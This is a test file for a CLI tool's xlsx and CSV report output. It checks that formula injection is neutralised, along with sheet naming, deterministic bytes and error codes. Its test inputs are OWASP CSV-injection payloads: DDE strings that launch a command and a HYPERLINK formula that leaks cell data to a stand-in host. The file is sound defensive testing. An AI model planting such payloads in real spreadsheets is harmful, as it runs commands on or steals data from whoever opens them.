/**
 * Spreadsheet outputs (issue 17): `--format xlsx -o FILE` on the commands,
 * byte-identical workbooks whatever the clock says, formula injection
 * neutralised in xlsx as in CSV (OWASP payloads), CSV with the byte-order mark
 * by default and without it on request, `costs --format csv`.
 */
import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it, vi } from "vitest";
import { sheetName, writeWorkbook } from "../../src/report/xlsx/workbook.js";
import { cli, SHANDONG } from "../cli/helpers.js";
import { readWorkbook, rowsOf } from "./helpers.js";

const dir = mkdtempSync(join(tmpdir(), "chainsim-xlsx-out-"));
const SMALL_COSTS = "test/fixtures/policy/small.yaml";

/** OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection) and ASVS 1.2.10's NUL. */
const OWASP = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click")',
  "+2+3+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  "＝1+1",
];

afterEach(() => {
  vi.useRealTimers();
});

describe("workbooks", () => {
  it("neutralise every OWASP payload: a text cell starting with an apostrophe, never a formula", async () => {
    const bytes = await writeWorkbook(
      [
        {
          key: "t",
          name: { zh: "表", en: "t" },
          columns: [
            { header: { zh: "名称", en: "name" }, format: "text" },
            { header: { zh: "值", en: "value" }, format: "number" },
          ],
          rows: OWASP.map((p) => [p, -12.5]),
        },
      ],
      "zh",
    );
    const ws = (await readWorkbook(bytes)).getWorksheet("表")!;
    OWASP.forEach((p, i) => {
      const row = ws.getRow(i + 2);
      // XML keeps no CR (read back as LF) and no NUL (dropped: a workbook holding one does not open)
      const kept = `'${p}`.replace(/\r/g, "\n").replace(/\u0000/g, "");
      expect(row.getCell(1).value, JSON.stringify(p)).toBe(kept);
      expect(row.getCell(1).formula, JSON.stringify(p)).toBeUndefined();
      expect(row.getCell(2).value).toBe(-12.5); // a negative number stays a number
    });
  });

  it("are the same bytes whenever they are written (fixed dates inside the zip and core.xml)", async () => {
    const tables = [
      {
        key: "t",
        name: { zh: "表", en: "t" },
        columns: [{ header: { zh: "值", en: "value" }, unit: "亿元", format: "number" as const }],
        rows: [[1.5]],
      },
    ];
    vi.useFakeTimers({ toFake: ["Date"] });
    vi.setSystemTime(new Date("2031-07-09T13:17:43Z"));
    const a = await writeWorkbook(tables, "zh");
    vi.setSystemTime(new Date("2044-02-29T03:04:05Z"));
    const b = await writeWorkbook(tables, "zh");
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
  });
});

describe("sheet names", () => {
  it("follow Excel's and WPS's rules: 31 characters, no []:*?/\\, no edge apostrophe, not History, unique", () => {
    const taken = new Set<string>();
    expect(sheetName("a[b]:c*d?e/f\\g", taken)).toBe("a_b__c_d_e_f_g");
    expect(sheetName("产业链".repeat(12), taken)).toBe("产业链".repeat(10).concat("产"));
    expect(Array.from(sheetName("x".repeat(40), taken))).toHaveLength(31);
    expect(sheetName("'quoted'", taken)).toBe("quoted");
    expect(sheetName("History", taken)).toBe("History_");
    expect(sheetName("", taken)).toBe("sheet");
    // unique whatever the case: Excel treats "Goals" and "goals" as the same sheet
    expect(sheetName("goals", taken)).toBe("goals");
    expect(sheetName("Goals", taken)).toBe("Goals~2");
  });
});

describe("--format xlsx -o FILE", () => {
  it("run writes a workbook whose results are the JSON's numbers", async () => {
    const out = join(dir, "run.xlsx");
    const r = await cli("run", SHANDONG, "--format", "xlsx", "-o", out, "--lang", "zh");
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const json = JSON.parse((await cli("run", SHANDONG, "--format", "json")).stdout);
    const wb = await readWorkbook(readFileSync(out));
    const rows = rowsOf(wb.getWorksheet("目标测算")!);
    const col = rows[0]!.indexOf("预测值");
    for (const t of json.targets) {
      const row = rows.find((x) => x[0] === t.id)!;
      expect(row[col], t.id).toBe(t.projected);
    }
  });

  it("check, simulate, compare, sweep and chain write workbooks in the chosen language", async () => {
    const cases: Array<[string[], string]> = [
      [["check", SHANDONG], "加总校验"],
      [["simulate", SHANDONG, "--samples", "200"], "达成概率"],
      [["compare", SHANDONG, SHANDONG, "--samples", "0"], "方案比较"],
      [["sweep", SHANDONG, "--set", "software.growth=8%:12%:4%", "--samples", "0"], "参数扫描"],
      [["chain", SHANDONG, "--samples", "0", "--shock", "software=-10%"], "产业链"],
      [["check", SHANDONG, "--lang", "en"], "add-up verdicts"],
    ];
    for (const [args, sheet] of cases) {
      const out = join(dir, `${args.join("-").replace(/[^\w-]/g, "_")}.xlsx`);
      const r = await cli(
        ...args,
        "--format",
        "xlsx",
        "-o",
        out,
        ...(args.includes("--lang") ? [] : ["--lang", "zh"]),
      );
      expect(r.code, `${args.join(" ")}: ${r.stderr}`).toBe(0);
      const names = (await readWorkbook(readFileSync(out))).worksheets.map((w) => w.name);
      expect(names, args.join(" ")).toContain(sheet);
    }
  }, 120_000);

  it("costs writes CSV and xlsx", async () => {
    const csv = await cli("costs", SMALL_COSTS, "--samples", "200", "--format", "csv");
    expect(csv.code).toBe(0);
    expect(csv.stdout.startsWith("\uFEFFinstrument,year,unit,mean,sd,p10,p50,p90\n")).toBe(true);
    expect(csv.stdout).toContain("\n*,");
    const out = join(dir, "costs.xlsx");
    const r = await cli(
      "costs",
      SMALL_COSTS,
      "--samples",
      "200",
      "--format",
      "xlsx",
      "-o",
      out,
      "--lang",
      "zh",
    );
    expect(r.code, r.stderr).toBe(0);
    const names = (await readWorkbook(readFileSync(out))).worksheets.map((w) => w.name);
    expect(names).toContain("政策成本");
  });

  it("without -o: exit 2, E_XLSX_NEEDS_OUT, nothing written", async () => {
    const r = await cli("run", SHANDONG, "--format", "xlsx");
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("E_XLSX_NEEDS_OUT");
    expect(r.stdout).toBe("");
  });

  it("into a folder that does not exist: exit 2, E_OUTPUT", async () => {
    const out = join(dir, "missing", "x.xlsx");
    const r = await cli("run", SHANDONG, "--format", "xlsx", "-o", out, "--lang", "zh");
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("E_OUTPUT");
    expect(existsSync(out)).toBe(false);
  });
});

describe("CSV byte-order mark", () => {
  it("is written by default and left out with --no-csv-bom", async () => {
    const withBom = await cli("run", SHANDONG, "--format", "csv");
    expect(withBom.stdout.startsWith("\uFEFF")).toBe(true);
    const without = await cli("run", SHANDONG, "--format", "csv", "--no-csv-bom");
    expect(without.code).toBe(0);
    expect(without.stdout.startsWith("\uFEFF")).toBe(false);
    expect(without.stdout).toBe(withBom.stdout.slice(1));
    // the choice is per command: the next one has the mark again
    expect((await cli("run", SHANDONG, "--format", "csv")).stdout.startsWith("\uFEFF")).toBe(true);
  });
});
